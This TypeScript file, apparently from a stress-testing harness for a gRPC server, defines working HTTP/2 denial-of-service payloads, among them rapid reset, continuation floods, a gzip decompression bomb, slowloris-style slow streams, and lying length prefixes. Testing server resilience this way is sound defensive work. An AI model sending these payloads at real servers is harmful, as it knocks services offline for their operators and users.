/**
 * What has brought HTTP/2 servers down, each as what one connection sends, again and again. An attacker reads nothing unless it says so.
 */
import { gzipSync } from "node:zlib";
import { callHeaders, flags, frame, grpcMessage, headerBlock, kinds, preface, uint32 } from "./http2-frames.ts";

export interface Attack {
  /** Connections at the same time. */
  readonly connections: number;
  /** Sent first. */
  readonly opening: Buffer;
  /** Sent as often as the other side takes it. Undefined: nothing more is sent, the connection is held open. */
  readonly next?: (round: number) => Buffer;
  /** Between two of them, for attacks that live of being slow. */
  readonly pauseMs?: number;
  /** A connection that ended is made anew. */
  readonly isRepeated?: boolean;
}

const method = "/grpc.health.v1.Health/Check";
const begun = Buffer.concat([preface, frame(kinds.settings, 0, 0)]);
const call = callHeaders(method);
const odd = (number: number) => 2 * number + 1;
const many = (count: number, make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const bomb = gzipSync(Buffer.alloc(64 * 2 ** 20), { level: 9 });

export const attacks: Readonly<Record<string, Attack>> = {
  "rapid reset": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: (round) =>
      many(100, (i) => {
        const stream = odd(100 * round + i);
        const cancel = frame(kinds.rstStream, 0, stream, uint32(8));
        return Buffer.concat([frame(kinds.headers, flags.endHeaders | flags.endStream, stream, call), cancel]);
      }),
  },
  "continuation flood": {
    connections: 4,
    opening: Buffer.concat([begun, frame(kinds.headers, flags.endStream, 1, call)]),
    isRepeated: true,
    next: () => many(50, (i) => frame(kinds.continuation, 0, 1, headerBlock([[`x-${i}`, "a".repeat(900)]]))),
  },
  "empty continuations": {
    connections: 4,
    opening: Buffer.concat([begun, frame(kinds.headers, flags.endStream, 1, call)]),
    isRepeated: true,
    next: () => many(1000, () => frame(kinds.continuation, 0, 1)),
  },
  "large headers": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: (round) => {
      const fields = callHeaders(method, [["x-large", "a".repeat(15_000)]]);
      return frame(kinds.headers, flags.endHeaders | flags.endStream, odd(round), fields);
    },
  },
  "settings flood": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: () => many(500, () => frame(kinds.settings, 0, 0)),
  },
  "ping flood": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: () => many(500, () => frame(kinds.ping, 0, 0, Buffer.alloc(8))),
  },
  "priority flood": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: (round) => many(500, (i) => frame(kinds.priority, 0, odd(500 * round + i), Buffer.alloc(5))),
  },
  "window starvation": {
    connections: 16,
    opening: Buffer.concat([preface, frame(kinds.settings, 0, 0, Buffer.concat([Buffer.of(0, 4), uint32(0)]))]),
    isRepeated: true,
    next: (round) => {
      const stream = odd(round);
      const message = frame(kinds.data, flags.endStream, stream, grpcMessage(new Uint8Array()));
      return Buffer.concat([frame(kinds.headers, flags.endHeaders, stream, call), message]);
    },
  },
  "window updates": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: () => many(500, () => frame(kinds.windowUpdate, 0, 0, uint32(0x7fffffff))),
  },
  "slow headers": {
    connections: 64,
    opening: begun,
    isRepeated: true,
    pauseMs: 100,
    next: (round) =>
      round === 0
        ? frame(kinds.headers, flags.endStream, 1, call)
        : frame(kinds.continuation, 0, 1, headerBlock([["x", "y"]])),
  },
  "slow messages": {
    connections: 64,
    opening: Buffer.concat([begun, frame(kinds.headers, flags.endHeaders, 1, call)]),
    isRepeated: true,
    pauseMs: 100,
    next: (round) =>
      frame(kinds.data, 0, 1, round === 0 ? grpcMessage(new Uint8Array(), false, 4_000_000) : Buffer.alloc(1)),
  },
  "messages of single bytes": inPieces(method, 1),
  "messages of nothing": inPieces(method, 0),
  "a stream of single bytes": inPieces("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", 1),
  "compressed bomb": {
    connections: 4,
    opening: begun,
    isRepeated: true,
    next: (round) => {
      const stream = odd(round);
      const message = grpcMessage(bomb, true);
      const head = frame(kinds.headers, flags.endHeaders, stream, callHeaders(method, [["grpc-encoding", "gzip"]]));
      const pieces = many(Math.ceil(message.length / 16_000), (i) =>
        frame(kinds.data, 0, stream, message.subarray(16_000 * i, 16_000 * (i + 1))),
      );
      return Buffer.concat([head, pieces, frame(kinds.data, flags.endStream, stream)]);
    },
  },
  "lengths that lie": {
    connections: 8,
    opening: begun,
    isRepeated: true,
    next: (round) => {
      const stream = odd(round);
      const lie = grpcMessage(Buffer.alloc(10), false, 0xffffffff);
      return Buffer.concat([
        frame(kinds.headers, flags.endHeaders, stream, call),
        frame(kinds.data, flags.endStream, stream, lie),
        frame(kinds.data, 0, stream, Buffer.alloc(4), 0xffffff),
      ]);
    },
  },
  "many connections": { connections: 400, opening: preface, isRepeated: true },
  "garbage preface": {
    connections: 8,
    opening: Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
    isRepeated: true,
    next: garbage,
  },
  "garbage behind the preface": { connections: 8, opening: begun, isRepeated: true, next: garbage },
};

function inPieces(path: string, bytes: number): Attack {
  return {
    connections: 16,
    opening: Buffer.concat([begun, frame(kinds.headers, flags.endHeaders, 1, callHeaders(path))]),
    isRepeated: true,
    next: (round) =>
      round === 0
        ? frame(kinds.data, 0, 1, grpcMessage(new Uint8Array(), false, 4_000_000))
        : many(2000, () => frame(kinds.data, 0, 1, Buffer.alloc(bytes))),
  };
}

function garbage(round: number): Buffer {
  return Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 2_654_435_761 * (round + 1)) >>> 13));
}
